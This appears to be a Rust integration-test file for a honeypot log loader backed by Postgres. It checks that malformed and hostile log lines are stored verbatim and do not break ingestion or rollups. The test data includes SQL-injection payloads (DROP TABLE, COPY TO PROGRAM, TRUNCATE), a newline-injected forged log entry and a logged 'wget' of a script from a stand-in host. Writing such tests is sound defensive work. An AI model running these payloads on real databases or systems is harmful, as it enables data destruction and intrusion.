//! 1,000 hostile lines through the loader: truncated, oversized (1 MiB), NUL,
//! invalid UTF-8, SQL-injection-looking, COPY-control-looking and newline-
//! injected. Every one is stored byte-exact; none aborts the COPY.

use decnet_it::*;

const GOOD: &str = r#"<134>1 2026-05-01T03:14:07.512334+00:00 decky-03 auth-helper - auth_attempt [relay@55555 username="root" secret_printable="hunter2" src_ip="45.83.12.9"]"#;

#[derive(Clone, Copy, PartialEq, Debug)]
enum Kind {
    Truncated,
    Oversized,
    Nul,
    InvalidUtf8,
    SqlInjection,
    CopyControl,
    CarriageReturn,
}

fn hostile_line(kind: Kind, rng: &mut Rng) -> Vec<u8> {
    let good = GOOD.as_bytes();
    match kind {
        Kind::Truncated => good[..1 + rng.below(good.len() - 1)].to_vec(),
        Kind::Oversized => {
            let mut l = GOOD.replace("hunter2", &"A".repeat(1 << 20)).into_bytes();
            l.truncate(l.len() - rng.below(3)); // some lose their closing `"]`
            l
        }
        Kind::Nul => {
            let mut l = good.to_vec();
            l.insert(rng.below(l.len()), 0);
            l
        }
        Kind::InvalidUtf8 => {
            let junk: [&[u8]; 4] = [b"\xff\xfe", b"\x80", b"\xc0\xaf", b"\xed\xa0\x80"];
            let mut l = good.to_vec();
            let at = rng.below(l.len());
            l.splice(at..at, junk[rng.below(4)].iter().copied());
            l
        }
        Kind::SqlInjection => {
            let payloads = [
                "'); DROP TABLE decnet.logs; --",
                "\\\" OR 1=1 --", // an escaped quote, as the emitter writes it
                "$$; SELECT pg_sleep(10); $$",
                "'; COPY decnet.logs TO PROGRAM 'id'; --",
                "\\'; TRUNCATE decnet.logs; --",
            ];
            GOOD.replace("hunter2", payloads[rng.below(payloads.len())])
                .into_bytes()
        }
        Kind::CopyControl => {
            // what COPY's text format would read as end-of-data, NULL, or escapes
            let payloads: [&[u8]; 6] = [
                b"\\.",
                b"\\N",
                b"a\tb\tc",
                b"\\x41\\101\\n",
                b"\\",
                b"end\\",
            ];
            payloads[rng.below(payloads.len())].to_vec()
        }
        Kind::CarriageReturn => GOOD.replace("root", "ro\rot").into_bytes(),
    }
}

#[test]
fn a_thousand_hostile_lines_all_stored() {
    let kinds = [
        Kind::Truncated,
        Kind::Oversized,
        Kind::Nul,
        Kind::InvalidUtf8,
        Kind::SqlInjection,
        Kind::CopyControl,
        Kind::CarriageReturn,
    ];
    let mut rng = Rng::new(0x9e3779b97f4a7c15);
    let mut lines: Vec<(Kind, Vec<u8>)> = Vec::new();
    while lines.len() < 1000 {
        // oversized lines are few (1 MiB each); the rest are drawn evenly
        let kind = if lines.len() % 100 == 50 {
            Kind::Oversized
        } else {
            kinds[rng.below(kinds.len())]
        };
        if kind == Kind::Oversized && lines.len() % 100 != 50 {
            continue;
        }
        lines.push((kind, hostile_line(kind, &mut rng)));
    }
    // newline injection: a value carrying "\n" splits into two lines at the loader; both are kept
    let injected = GOOD.replace("hunter2", "x\n<134>1 2026-05-01T00:00:00+00:00 forged ssh - connection [relay@55555 src_ip=\"6.6.6.6\"]");
    let mut data = Vec::new();
    for (_, l) in &lines {
        data.extend_from_slice(l);
        data.push(b'\n');
    }
    data.extend_from_slice(injected.as_bytes());
    data.push(b'\n');
    let expected: Vec<&[u8]> = file_lines(&data);
    assert_eq!(expected.len(), 1002);

    let mut c = migrated_db("it_hostile");
    let stats = ingest_bytes(&mut c, &data);
    assert_eq!(stats.lines, 1002);

    let stored = stored_lines(&mut c);
    assert_eq!(stored.len(), expected.len());
    for (i, (s, e)) in stored.iter().zip(&expected).enumerate() {
        assert_eq!(s.as_slice(), *e, "line {i} changed");
    }

    let statuses = c.query("SELECT parse_status, coalesce(parse_reason, ''), raw_bytes IS NOT NULL FROM decnet.logs ORDER BY id", &[]).unwrap();
    for ((kind, line), row) in lines.iter().zip(&statuses) {
        let (status, reason, has_bytes): (String, String, bool) =
            (row.get(0), row.get(1), row.get(2));
        let binary = line.contains(&0) || std::str::from_utf8(line).is_err();
        assert_eq!(has_bytes, binary, "{kind:?}");
        match kind {
            Kind::Nul | Kind::InvalidUtf8 => {
                assert!(reason.contains("lossy_text"), "{kind:?} {reason}")
            }
            Kind::Oversized => assert!(reason.contains("oversized"), "{reason}"),
            Kind::CopyControl => assert_eq!(status, "unparsed"),
            Kind::SqlInjection => assert_eq!((status.as_str(), reason.as_str()), ("ok", "")),
            Kind::Truncated | Kind::CarriageReturn => {}
        }
    }
    // the injected payloads are data, not SQL: the table is intact and the text is verbatim
    assert!(count(&mut c, "SELECT count(*) FROM decnet.logs WHERE fields->>'secret_printable' = '''); DROP TABLE decnet.logs; --'") > 0);
    // the forged second half of the injected line is its own row, parsed as what it claims
    assert_eq!(count(&mut c, "SELECT count(*) FROM decnet.logs WHERE decky = 'forged' AND host(attacker_ip) = '6.6.6.6'"), 1);
    assert_eq!(
        count(
            &mut c,
            "SELECT count(*) FROM decnet.logs WHERE raw_line = '\\.'"
        ),
        stored.iter().filter(|l| l.as_slice() == b"\\.").count() as i64
    );
}

#[test]
fn hostile_values_through_insert() {
    let mut c = migrated_db("it_hostile_insert");
    let big = GOOD.replace("hunter2", &"B".repeat(1 << 20));
    let inputs = [
        big.as_str(),
        "'); DROP TABLE decnet.logs; --",
        "<134>1 2026-05-01T00:00:00+00:00 d s - e [relay@55555 a=\"\\",
        "<134>1 9999-99-99T99:99:99+99:99 d s - e -",
        "<134>1 2026-05-01T00:00:00+00:00 d s - e [relay@55555 src_ip=\"1.2.3.4\" src_ip=\"5.6.7.8\"]",
        "",
    ];
    for s in inputs {
        c.execute("INSERT INTO decnet.logs (raw_line) VALUES ($1)", &[&s])
            .unwrap();
    }
    assert_eq!(
        count(&mut c, "SELECT count(*) FROM decnet.logs"),
        inputs.len() as i64
    );
    assert_eq!(count(&mut c, "SELECT count(*) FROM decnet.logs WHERE length(raw_line) > 1000000 AND parse_reason = 'oversized' AND length(fields->>'secret_printable') = 1048576"), 1);
    assert_eq!(
        count(
            &mut c,
            "SELECT count(*) FROM decnet.logs WHERE parse_reason = 'bad_timestamp' AND ts IS NULL"
        ),
        1
    );
    assert_eq!(
        count(
            &mut c,
            "SELECT count(*) FROM decnet.logs WHERE parse_reason = 'unterminated_sd'"
        ),
        1
    );
    // a duplicated key: the later value wins, as in DECNET
    assert_eq!(
        count(
            &mut c,
            "SELECT count(*) FROM decnet.logs WHERE host(attacker_ip) = '5.6.7.8'"
        ),
        1
    );
    assert_eq!(
        count(
            &mut c,
            "SELECT count(*) FROM decnet.logs WHERE raw_line = '' AND parse_reason = 'empty'"
        ),
        1
    );
}

/// Issue 15: each attacker-chosen value that once aborted a COPY, poisoned the
/// rollup or broke verify(), on its own line, as the emitters write it.
fn poison_lines() -> Vec<(&'static str, String)> {
    let long = |c: &str| c.repeat(6000);
    let ts = "2026-05-01T00:30:00+00:00";
    let mut cmd_tokens = String::new();
    for i in 0..100_000 {
        cmd_tokens += &format!("t{i}=x ");
    }
    let mut params = String::new();
    for i in 0..100_000 {
        params += &format!(" k{i}=\"v\"");
    }
    vec![
        ("smtp_domain", format!(r#"<134>1 {ts} mail-relay-01 smtp - rcpt_to [relay@55555 src="203.0.113.50" value="a@{}.com"]"#, long("b"))),
        ("app_name", format!(r#"<134>1 {ts} decky-01 {} - connection [relay@55555 src_ip="203.0.113.51"]"#, long("s"))),
        ("hostname", format!(r#"<134>1 {ts} {} ssh - connection [relay@55555 src_ip="203.0.113.52"]"#, long("h"))),
        ("sid", format!(r#"<134>1 {ts} decky-02 sessrec - session_recorded [relay@55555 sid="{}" service="ssh" src_ip="203.0.113.53" duration_s="1.0" bytes="10" truncated="false"]"#, long("f"))),
        ("c2_url", format!("<14>1 {ts} decky-02 bash - - -  CMD uid=0 user=root src=203.0.113.54 pwd=/root cmd=wget http://{}.example/x.sh", long("u"))),
        ("ja3", format!(r#"<134>1 {ts} decky-06 sniffer - tls_client_hello [relay@55555 src_ip="203.0.113.55" src_port="43981" dst_ip="10.0.0.10" dst_port="443" ja3="{}" ja4="t13d1516h2_ac673a938fea_6089087f9bcc"]"#, long("e"))),
        ("hassh", format!(r#"<134>1 {ts} decnet-prober prober - hassh_fingerprint [relay@55555 target_ip="203.0.113.56" target_port="22" hassh_server_hash="{}" ssh_banner="SSH-2.0-x"]"#, long("5"))),
        ("json_nul", format!(r#"<134>1 {ts} decky-06 http - request [relay@55555 method="GET" path="/" remote_addr="203.0.113.57" headers="{{\"User-Agent\": \"curl/8\\u0000evil\", \"X-Forwarded-For\": \"1.2.3.4\"}}"]"#)),
        ("sd_params", format!(r#"<134>1 {ts} decky-01 ssh - connection [relay@55555 src_ip="203.0.113.58"{params}]"#)),
        ("cmd_tokens", format!("<14>1 {ts} decky-02 bash - - -  CMD uid=0 src=203.0.113.59 {cmd_tokens}cmd=id")),
        ("unspecified_v4", format!(r#"<134>1 {ts} decky-01 ssh - connection [relay@55555 src_ip="0.0.0.0"]"#)),
        ("unspecified_v6", format!(r#"<134>1 {ts} decky-01 ssh - connection [relay@55555 src_ip="::"]"#)),
        ("loopback_v6", format!(r#"<134>1 {ts} decky-01 ssh - connection [relay@55555 src_ip="[::1]:2222"]"#)),
    ]
}

#[test]
fn every_poison_value_among_100k_good_lines_loads_and_verifies() {
    let mut c = migrated_db("it_hostile_poison");
    let good = std::fs::read(corpus(100_000, 15)).unwrap();
    let good_lines = file_lines(&good);
    let poison = poison_lines();
    // the poison spread through the file, so each COPY statement of the loader gets some
    let mut data = Vec::new();
    let step = good_lines.len() / poison.len();
    for (i, l) in good_lines.iter().enumerate() {
        data.extend_from_slice(l);
        data.push(b'\n');
        if i % step == step / 2 && i / step < poison.len() {
            data.extend_from_slice(poison[i / step].1.as_bytes());
            data.push(b'\n');
        }
    }
    let total = good_lines.len() + poison.len();
    assert_eq!(ingest_bytes(&mut c, &data).lines as usize, total);
    assert_eq!(
        count(&mut c, "SELECT count(*) FROM decnet.logs"),
        total as i64,
        "every line is stored"
    );

    let reason = |c: &mut postgres::Client, needle: &str| -> String {
        let sql = format!("SELECT coalesce(parse_reason, '') FROM decnet.logs WHERE strpos(raw_line, '{needle}') > 0");
        let got: Vec<String> = column(c, &sql);
        assert_eq!(got.len(), 1, "{needle}");
        got[0].clone()
    };
    assert!(reason(&mut c, "203.0.113.51").contains("long_header"));
    assert!(reason(&mut c, "203.0.113.52").contains("long_header"));
    assert!(reason(&mut c, "203.0.113.57").contains("json_nul"));
    assert!(reason(&mut c, "203.0.113.58").contains("too_many_fields"));
    assert!(reason(&mut c, "203.0.113.59").contains("too_many_fields"));
    assert_eq!(count(&mut c, "SELECT count(*) FROM decnet.logs WHERE parse_reason LIKE '%not_an_attacker%' AND attacker_ip IS NULL"), 3);
    // no profile for "this host": 0.0.0.0, :: and ::1 are nobody's address
    assert_eq!(count(&mut c, "SELECT count(*) FROM decnet.attackers WHERE ip << '0.0.0.0/8' OR ip = '::' OR ip = '::1'"), 0);
    // bounded keys: the long names are cut, the long domain is none
    assert_eq!(count(&mut c, "SELECT max(length(service))::bigint FROM decnet.attacker_services WHERE host(attacker_ip) = '203.0.113.51'"), 255);
    assert_eq!(count(&mut c, "SELECT max(length(decky))::bigint FROM decnet.attacker_deckies WHERE host(attacker_ip) = '203.0.113.52'"), 255);
    assert_eq!(
        count(
            &mut c,
            "SELECT count(*) FROM decnet.smtp_targets WHERE host(attacker_ip) = '203.0.113.50'"
        ),
        0
    );
    assert!(count(&mut c, "SELECT max(length(last_hash))::bigint FROM decnet.fingerprint_state WHERE host(attacker_ip) = '203.0.113.56'") <= 256);
    // the NUL is stored as U+FFFD and reads back as text
    assert_eq!(count(&mut c, "SELECT count(*) FROM decnet.bounties WHERE host(attacker_ip) = '203.0.113.57' AND payload::text LIKE '%curl/8\u{fffd}evil%'"), 1);

    // the rollup takes every attacker, the long ja3 and C2 URL among them
    let mut rounds = 0;
    while count(&mut c, "SELECT count(*) FROM decnet.dirty_attackers") > 0 {
        c.batch_execute("SELECT * FROM decnet.rollup(5000)")
            .unwrap();
        rounds += 1;
        assert!(rounds < 20, "the rollup does not drain");
    }
    assert_eq!(
        count(&mut c, "SELECT count(*) FROM decnet.rollup_failures"),
        0
    );
    assert_eq!(
        count(&mut c, "SELECT rollup_failures FROM decnet.stats()"),
        0
    );
    assert!(count(&mut c, "SELECT count(*) FROM decnet.identity_signals WHERE host(attacker_ip) IN ('203.0.113.54', '203.0.113.55')") >= 2);
    assert_eq!(
        count(
            &mut c,
            "SELECT count(*) FROM decnet.identity_signals WHERE length(value) > 256"
        ),
        0
    );

    let diff: Vec<String> = column(
        &mut c,
        "SELECT relation || ' ' || row_key::text FROM decnet.verify() LIMIT 5",
    );
    assert!(diff.is_empty(), "{diff:?}");
    // rebuild() reads every line again, the NUL one included, and agrees
    c.batch_execute("SELECT * FROM decnet.rebuild()").unwrap();
    assert_eq!(count(&mut c, "SELECT count(*) FROM decnet.verify()"), 0);
}

/// Issue 15: raw_bytes are the line; a writer's raw_line that says otherwise is replaced and flagged.
#[test]
fn raw_line_that_disagrees_with_raw_bytes_is_replaced() {
    let mut c = migrated_db("it_hostile_raw");
    let real = r#"<134>1 2026-05-01T00:00:00+00:00 decky-01 ssh - connection [relay@55555 src_ip="203.0.113.60"]"#;
    let bytes = [real.as_bytes(), b"\xff"].concat();
    c.execute(
        "INSERT INTO decnet.logs (raw_line, raw_bytes) VALUES ($1, $2)",
        &[&"innocent text", &bytes],
    )
    .unwrap();
    let row = c
        .query_one(
            "SELECT raw_line, parse_reason, host(attacker_ip) FROM decnet.logs",
            &[],
        )
        .unwrap();
    assert_eq!(row.get::<_, String>(0), format!("{real}\u{fffd}"));
    assert!(row.get::<_, String>(1).contains("raw_mismatch"));
    assert_eq!(
        row.get::<_, Option<String>>(2).as_deref(),
        Some("203.0.113.60")
    );
    assert_eq!(count(&mut c, "SELECT count(*) FROM decnet.verify()"), 0);
}

/// Issue 15: one attacker whose rollup fails does not hold back the batch; it
/// is recorded, reported by stats(), and cleared once it rolls up again.
#[test]
fn a_failing_attacker_is_isolated_from_its_rollup_batch() {
    let mut c = migrated_db("it_hostile_rollup");
    let mut lines = String::new();
    for i in 1..=50 {
        lines += &format!("<134>1 2026-05-01T00:00:{:02}+00:00 decky-01 ssh - connection [relay@55555 src_ip=\"198.51.100.{i}\"]\n", i % 60);
    }
    ingest_bytes(&mut c, lines.as_bytes());
    // a real failure inside the batch: the behaviour row of one attacker violates a constraint
    c.batch_execute("ALTER TABLE decnet.attacker_behavior ADD CONSTRAINT poison CHECK (attacker_ip <> '198.51.100.7')").unwrap();
    let row = c
        .query_one("SELECT attackers, remaining FROM decnet.rollup()", &[])
        .unwrap();
    assert_eq!(
        (row.get::<_, i32>(0), row.get::<_, i64>(1)),
        (50, 0),
        "the batch is drained, not retried forever"
    );
    assert_eq!(
        count(&mut c, "SELECT count(*) FROM decnet.attacker_behavior"),
        49,
        "the other 49 rolled up"
    );
    let failure = c
        .query_one(
            "SELECT host(ip), sqlstate, message FROM decnet.rollup_failures",
            &[],
        )
        .unwrap();
    assert_eq!(
        (failure.get::<_, String>(0), failure.get::<_, String>(1)),
        ("198.51.100.7".into(), "23514".into())
    );
    assert!(failure.get::<_, String>(2).contains("poison"));
    assert_eq!(
        count(&mut c, "SELECT rollup_failures FROM decnet.stats()"),
        1
    );
    // fixed, and a new line: it rolls up, and the failure is gone
    c.batch_execute("ALTER TABLE decnet.attacker_behavior DROP CONSTRAINT poison")
        .unwrap();
    ingest_bytes(&mut c, b"<134>1 2026-05-01T00:01:00+00:00 decky-02 ssh - connection [relay@55555 src_ip=\"198.51.100.7\"]\n");
    c.batch_execute("SELECT * FROM decnet.rollup()").unwrap();
    assert_eq!(
        count(&mut c, "SELECT count(*) FROM decnet.rollup_failures"),
        0
    );
    assert_eq!(count(&mut c, "SELECT event_count FROM decnet.attacker_behavior WHERE host(attacker_ip) = '198.51.100.7'"), 2);
}

/// Issue 15: the rollup reads at most rollup_lines_max() lines of an attacker
/// (its latest), so an attacker with millions of lines cannot exhaust memory;
/// its event count still covers every line.
#[test]
fn a_heavy_attacker_rolls_up_over_its_latest_lines() {
    let mut c = migrated_db("it_hostile_heavy");
    let max = count(&mut c, "SELECT decnet.rollup_lines_max()::bigint") as usize;
    // first 5,000 lines: requests with a sqlmap User-Agent; then max lines of plain connections
    let mut lines = String::new();
    for i in 0..5_000 {
        lines += &format!(
            "<134>1 2026-05-01T00:{:02}:{:02}+00:00 decky-06 http - request [relay@55555 method=\"GET\" path=\"/\" remote_addr=\"198.51.100.200\" headers=\"{{\\\"User-Agent\\\": \\\"sqlmap/1.7\\\"}}\"]\n",
            i / 60 % 60, i % 60
        );
    }
    for i in 0..max {
        lines += &format!("<134>1 2026-05-01T01:{:02}:{:02}+00:00 decky-01 ssh - connection [relay@55555 src_ip=\"198.51.100.200\"]\n", i / 60 % 60, i % 60);
    }
    ingest_bytes(&mut c, lines.as_bytes());
    c.batch_execute("SELECT * FROM decnet.rollup()").unwrap();
    let row = c
        .query_one(
            "SELECT event_count, tool_guesses FROM decnet.attacker_behavior",
            &[],
        )
        .unwrap();
    assert_eq!(
        row.get::<_, i64>(0),
        (5_000 + max) as i64,
        "the count covers every line"
    );
    let tools: Vec<String> = row.get(1);
    assert!(
        !tools.contains(&"sqlmap".to_string()),
        "only the latest {max} lines were read: {tools:?}"
    );
    // with fewer lines than the cap, the same attacker's older requests do count
    ingest_bytes(
        &mut c,
        lines
            .lines()
            .take(10)
            .map(|l| l.replace("198.51.100.200", "198.51.100.201") + "\n")
            .collect::<String>()
            .as_bytes(),
    );
    c.batch_execute("SELECT * FROM decnet.rollup()").unwrap();
    let tools: Vec<String> = c.query_one("SELECT tool_guesses FROM decnet.attacker_behavior WHERE host(attacker_ip) = '198.51.100.201'", &[]).unwrap().get(0);
    assert!(tools.contains(&"sqlmap".to_string()), "{tools:?}");
}
